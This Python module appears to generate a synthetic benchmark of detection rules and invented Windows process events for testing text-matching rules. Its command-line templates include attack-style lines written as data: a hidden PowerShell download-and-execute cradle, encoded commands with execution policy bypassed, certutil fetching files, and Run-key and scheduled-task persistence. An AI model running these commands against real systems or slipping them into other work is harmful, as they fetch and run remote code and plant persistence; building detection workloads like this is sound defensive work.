"""Detections over text: rules of `like`, `ilike`, `contains` and `endswith`, and process events.

An event is a process that starts and what it fetches: ten attributes, all of them strings. Names
of programs, people and machines repeat as they do in a company, a few all the time and most
seldom; command lines and addresses are mostly new. A rule looks for one to three pieces of text,
of which at least one is a name that few events hold.
"""

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from itertools import accumulate
from random import Random

# Names of programs, which start the processes of events.
PROGRAMS = (
    "svchost.exe", "chrome.exe", "powershell.exe", "cmd.exe", "msedge.exe", "explorer.exe",
    "python.exe", "java.exe", "rundll32.exe", "teams.exe", "outlook.exe", "winword.exe",
    "excel.exe", "code.exe", "node.exe", "git.exe", "conhost.exe", "wmiprvse.exe",
    "msiexec.exe", "regsvr32.exe", "schtasks.exe", "wscript.exe", "cscript.exe", "mshta.exe",
    "certutil.exe", "bitsadmin.exe", "curl.exe", "net.exe", "whoami.exe", "reg.exe", "wmic.exe",
    "vssadmin.exe", "psexec.exe", "firefox.exe", "slack.exe", "zoom.exe", "onedrive.exe",
    "docker.exe", "ssh.exe", "taskhostw.exe", "dllhost.exe", "searchindexer.exe", "spoolsv.exe",
    "lsass.exe", "services.exe", "winlogon.exe",
)  # fmt: skip

# Folders of programs; `FIELDS` says what stands for a name in braces, here and below.
SYSTEM_FOLDERS = (
    "C:\\Windows\\System32",
    "C:\\Windows\\SysWOW64",
    "C:\\Program Files\\{Name}",
    "C:\\Program Files (x86)\\{Name}\\bin",
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}",
    "C:\\Users\\{user}\\AppData\\Roaming\\{Name}",
    "C:\\ProgramData\\{Name}\\{number}",
    "D:\\builds\\{name}\\{number}\\out",
)

# Arguments of command lines.
ARGUMENTS = (
    "-NoProfile -ExecutionPolicy Bypass -EncodedCommand {base64}",
    "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"",
    "-File C:\\Scripts\\{name}.ps1 -Target {host}",
    "/c copy \\\\{host}\\share\\{name}{number}.zip C:\\Temp\\{other}",
    "/c whoami /all & net user {user} /domain",
    "--type=renderer --lang=en-US --field-trial-handle={hex} --extension={name}",
    "--type=utility --utility-sub-type={name}.mojom.{Name}Service --service-id={number}",
    "-k netsvcs -p -s {Name}Svc",
    "-m {name}.{other} --config C:\\etc\\{name}\\{other}.yaml --seed {number}",
    "-jar C:\\apps\\{name}-{number}.jar --server {host}:8443 --profile {other}",
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.dll,{Other}Entry {hex}",
    "/create /tn {Name}Update /tr C:\\ProgramData\\{name}\\{other}.exe /sc daily",
    "-urlcache -split -f {url} C:\\Temp\\{name}.bin",
    "-o C:\\Temp\\{name}_{number}.tmp -H X-Token:{hex} {url}",
    "clone git@{host}:{name}/{other}.git --depth {number}",
    "add HKCU\\Software\\{Name}\\Run /v {Other} /d {hex} /f",
    "/i C:\\Install\\{Name}_{number}.msi /qn LICENSE={other}",
    "process call create {name}.exe --tag {other}{number}",
)

# User agents.
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{version}.0.{build}.{number} Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.{minor} Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{version}.0) Gecko/20100101 Firefox/{version}.0",
    "Mozilla/5.0 (compatible; {Name}bot/{minor}.0; +https://{domain}/bot)",
    "{name}-client/{minor}.{number} (windows; {other})",
    "python-requests/2.{minor}.0 {Name}/{number}",
    "curl/8.{minor}.0",
)

# Addresses of pages.
PAGES = (
    "https://{domain}/{name}/{other}/{number}",
    "https://www.{domain}/search?q={name}+{other}&page={minor}",
    "https://cdn.{domain}/static/{hex}/{name}.min.js?v={version}",
    "https://api.{domain}/v{minor}/{name}s/{number}/{other}?token={hex}",
    "http://{domain}/{name}/{other}{number}.exe",
    "https://{domain}/login.php?user={user}&next=%2F{name}%2F{other}",
)

# Keys of the registry.
KEYS = (
    "HKLM\\Software\\{Name}\\{Other}\\Settings",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{Name}",
    "HKLM\\System\\CurrentControlSet\\Services\\{Name}Svc\\Parameters",
    "HKCU\\Software\\Classes\\CLSID\\{hex}\\InprocServer32",
)

# Ends of domain names; those that occur more often are listed more often.
TOP_LEVELS = ("com", "com", "com", "net", "org", "io", "de", "co.uk", "fr", "ru", "cn", "info")

# What names of hosts begin with.
SITES = ("ber", "lon", "nyc", "sgp", "par", "tok", "sao", "syd")

# What names of hosts have in their middle.
ROLES = ("web", "db", "app", "dc", "file", "build", "lap", "ws", "vdi")

# Domains of users.
DOMAINS = ("CORP", "EMEA", "APAC", "LAB")

# The attributes of an event.
ATTRIBUTES = (
    "command_line", "domain", "host", "parent_path", "path", "process", "registry_key", "url",
    "user", "user_agent",
)  # fmt: skip

# What invented names are made of.
_SYLLABLES = (
    "ka", "lo", "mi", "ra", "ten", "vel", "or", "xi", "zu", "pha", "dri", "sto", "ne", "qua",
    "bel", "mar", "gos", "tri", "un", "fel", "ing",
)  # fmt: skip


def _words(count: int) -> tuple[str, ...]:
    """Invented names, the same for every seed, so that rules and events share them."""
    random = Random("words")
    words: dict[str, None] = {}
    while len(words) < count:
        words["".join(random.choices(_SYLLABLES, k=random.randint(2, 4)))] = None
    return tuple(words)


# The invented names.
WORDS = _words(4000)

# The nth most popular of many has a share like 1 / (n + 5): a few are met all the time.
_SHARES = tuple(accumulate(1 / (n + 5) for n in range(len(WORDS))))


@dataclass(frozen=True)
class StringRules:
    """A seeded workload of text: an event matches a few of 100,000 rules.

    >>> rules = StringRules(rules=10, seed=3)
    >>> print(rules.texts()[2])
    contains(registry_key, '...')
    >>> sorted(rules.events(1)[0])
    ['command_line', 'domain', 'host', 'parent_path', 'path', 'process', 'registry_key', ...]
    """

    rules: int = 100_000
    seed: int = 1

    def texts(self) -> list[str]:
        """The rules as texts of the rule language, the same for the same seed.

        >>> len(StringRules(rules=10).texts())
        10
        """
        random = Random(f"rules {self.seed}")
        return [_rule(random) for _ in range(self.rules)]

    def events(self, n: int) -> list[dict[str, str]]:
        """Processes that start, ten strings each.

        >>> [event["process"] in event["path"] for event in StringRules().events(2)]
        [True, True]
        """
        random = Random(f"events {self.seed}")
        return [_event(random) for _ in range(n)]


# Events


def _popular(random: Random, among: Sequence[str] = WORDS) -> str:
    return random.choices(among, cum_weights=_SHARES[: len(among)])[0]


def _fill(random: Random, template: str, **known: str) -> str:
    """The template with its names drawn; a name that is not in it is not drawn."""
    for field, draw in FIELDS.items():
        if "{" + field + "}" in template:
            template = template.replace("{" + field + "}", known.get(field) or draw(random))
    return template


def _domain(random: Random) -> str:
    """A popular name always has the same top level."""
    word = _popular(random)
    return f"{word}.{TOP_LEVELS[len(word) * 7 % len(TOP_LEVELS)]}"


def _host(random: Random) -> str:
    site, role = random.choice(SITES), random.choice(ROLES)
    return f"{site}-{role}-{random.randint(1, 60):03}"


# What is written for each name in braces.
FIELDS: dict[str, Callable[[Random], str]] = {
    "url": lambda random: _fill(random, random.choice(PAGES)),
    "name": _popular,
    "Name": lambda random: _popular(random).capitalize(),
    "other": _popular,
    "Other": lambda random: _popular(random).capitalize(),
    "user": lambda random: f"{random.choice('abcdefghjklm')}.{_popular(random, WORDS[:600])}",
    "host": _host,
    "domain": _domain,
    "number": lambda random: str(random.randint(1, 9999)),
    "build": lambda random: str(random.choice((6099, 6167, 6261, 6312))),
    "version": lambda random: str(random.randint(110, 131)),
    "minor": lambda random: str(random.randint(0, 9)),
    "hex": lambda random: f"{random.getrandbits(64):016x}",
    "base64": lambda random: "".join(random.choices(_BASE64, k=random.randint(40, 160))),
}

# The digits of Base64.
_BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _process(random: Random) -> str:
    if random.random() < 0.15:
        return f"{_popular(random)}.exe"
    return _popular(random, PROGRAMS)


def _path(random: Random, process: str, user: str) -> str:
    folder = random.choices(SYSTEM_FOLDERS, weights=(30, 5, 20, 10, 5, 5, 3, 2))[0]
    return _fill(random, folder, user=user) + "\\" + process


def _event(random: Random) -> dict[str, str]:
    user = FIELDS["user"](random)
    process = _process(random)
    path = _path(random, process, user)
    url = _fill(random, random.choice(PAGES), user=user)
    return {
        "command_line": f'"{path}" ' + _fill(random, _popular(random, ARGUMENTS), user=user),
        "domain": url.split("/")[2],
        "host": _host(random),
        "parent_path": _path(random, _process(random), user),
        "path": path,
        "process": process,
        "registry_key": _fill(random, random.choice(KEYS)),
        "url": url,
        "user": f"{random.choice(DOMAINS)}\\{user}",
        "user_agent": _fill(random, _popular(random, AGENTS)),
    }


# Rules


def _rule(random: Random) -> str:
    """One to three pieces of text, seldom a choice of two."""
    kind = random.random()
    if kind < 0.25:
        return _rare(random)
    if kind < 0.7:
        return f"{_rare(random)} and {random.choice((_common, _common, _rare))(random)}"
    if kind < 0.9:
        return f"{_common(random)} and {_rare(random)} and {_common(random)}"
    return f"{_common(random)} and ({_rare(random)} or {_rare(random)})"


def _rare(random: Random) -> str:
    """A piece of text that few events hold: two names, or a name and a number."""
    return random.choice(RARE)(random)


def _common(random: Random) -> str:
    """A piece of text that some events hold: a program, a kind of place, one name."""
    return random.choice(COMMON)(random)


def _word(random: Random) -> str:
    """A name for a rule: more often than not a popular one."""
    return _popular(random) if random.random() < 0.6 else random.choice(WORDS)


def _name(random: Random) -> str:
    return _word(random).capitalize()


def _number(random: Random) -> int:
    return random.randint(1, 9999)


def _program(random: Random) -> str:
    return random.choice(PROGRAMS)


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _like(attribute: str, *pieces: str, kind: str = "like") -> str:
    """The pieces in turn, with anything between them."""
    plain = (
        piece.replace("\\", "\\\\").replace("_", "\\_").replace("%", "\\%") for piece in pieces
    )
    return f"{attribute} {kind} {_quoted('%'.join(plain))}"


def _ilike(attribute: str, *pieces: str) -> str:
    return _like(attribute, *pieces, kind="ilike")


def _call(name: str, attribute: str, text: str) -> str:
    return f"{name}({attribute}, {_quoted(text)})"


Maker = Callable[[Random], str]

# Patterns that few events match.
RARE: tuple[Maker, ...] = (
    lambda r: _ilike("command_line", "", _word(r), _word(r), ""),
    lambda r: _ilike("command_line", "", _program(r), f"\\{_word(r)}{_number(r)}", ""),
    lambda r: _ilike("command_line", "", "powershell", f"{_word(r)}.ps1", r.choice(ROLES), ""),
    lambda r: _like("command_line", "", f"\\{_word(r)}", f"{_word(r)}.yaml", ""),
    lambda r: _call("contains", "command_line", f"{_word(r)}-{_number(r)}.jar"),
    lambda r: _call("contains", "command_line", f"{_word(r)}/{_word(r)}.git"),
    lambda r: _call("endswith", "command_line", f"{_word(r)}{_number(r)}"),
    lambda r: _like("path", "C:\\Users\\", f"\\AppData\\Local\\Temp\\{_word(r)}", ".exe"),
    lambda r: _ilike("path", "", f"\\{_word(r).upper()}\\", f"{_word(r)}.exe"),
    lambda r: _call("endswith", "path", f"\\{_name(r)}\\bin\\{_program(r)}"),
    lambda r: _like("path", "C:\\ProgramData\\", f"\\{_number(r)}\\{_program(r)}"),
    lambda r: _call("endswith", "parent_path", f"\\{_name(r)}\\{_program(r)}"),
    lambda r: _ilike("parent_path", "", f"\\temp\\{_word(r)}\\", ""),
    lambda r: _like("user_agent", "", f"{_word(r)}-client/", _word(r), ""),
    lambda r: _call("contains", "user_agent", f"{_name(r)}/{_number(r)}"),
    lambda r: _ilike("url", "", _word(r), f"/{_word(r)}/", ""),
    lambda r: _call("endswith", "url", f"/{_word(r)}{_number(r)}.exe"),
    lambda r: _like("url", "", f"/{_word(r)}s/", f"/{_word(r)}?token", ""),
    lambda r: _call("contains", "url", f"q={_word(r)}+{_word(r)}"),
    lambda r: _call("contains", "registry_key", f"\\{_name(r)}\\{_name(r)}"),
    lambda r: _ilike("registry_key", "hklm\\", f"\\{_word(r)}svc\\", ""),
)

# Patterns that many events match.
COMMON: tuple[Maker, ...] = (
    lambda r: _ilike("command_line", "", "powershell", r.choice(("-enc", "-nop", "iex", "")), ""),
    lambda r: _ilike("command_line", "", f" {r.choice('-/')}{r.choice('cfikmops')} ", _word(r), ""),
    lambda r: _call("contains", "command_line", r.choice(("http", "Temp", "--", "Token", ".dll"))),
    lambda r: _like("path", "C:\\Users\\", "\\AppData", ""),
    lambda r: _ilike("path", "", f"\\program files\\{_word(r)}\\", ""),
    lambda r: _ilike("parent_path", "", f"\\{_program(r)}"),
    lambda r: _call("endswith", "path", f"\\{_program(r)}"),
    lambda r: _call("endswith", "process", r.choice((".exe", "host.exe", "32.exe", "sh.exe"))),
    lambda r: _ilike("process", _program(r).upper()),
    lambda r: _like("process", "", _word(r), ".exe"),
    lambda r: _call("contains", "user_agent", r.choice(("bot", "curl", "Firefox", "Windows"))),
    lambda r: _ilike("user_agent", "", f"chrome/{r.randint(110, 131)}", "safari", ""),
    lambda r: _call("endswith", "domain", f"{_word(r)}.{r.choice(TOP_LEVELS)}"),
    lambda r: _ilike("domain", "", _word(r), ""),
    lambda r: _call("endswith", "url", r.choice((".exe", ".js", "=1", "/login"))),
    lambda r: _like("url", "https://api.", f"{r.choice('0123456789')}", ""),
    lambda r: _ilike("host", f"{r.choice(SITES)}-", f"-{r.randint(1, 60):03}"),
    lambda r: _call("endswith", "host", f"-{r.choice(ROLES)}-{r.randint(1, 60):03}"),
    lambda r: _call("contains", "host", f"-{r.choice(ROLES)}-"),
    lambda r: _ilike("user", "", f"\\{r.choice('abcdefghjklm')}.{r.choice(WORDS[:600])}"),
    lambda r: _call("endswith", "user", r.choice(WORDS[:600])),
    lambda r: _ilike("registry_key", "", "\\run\\", _word(r), ""),
)
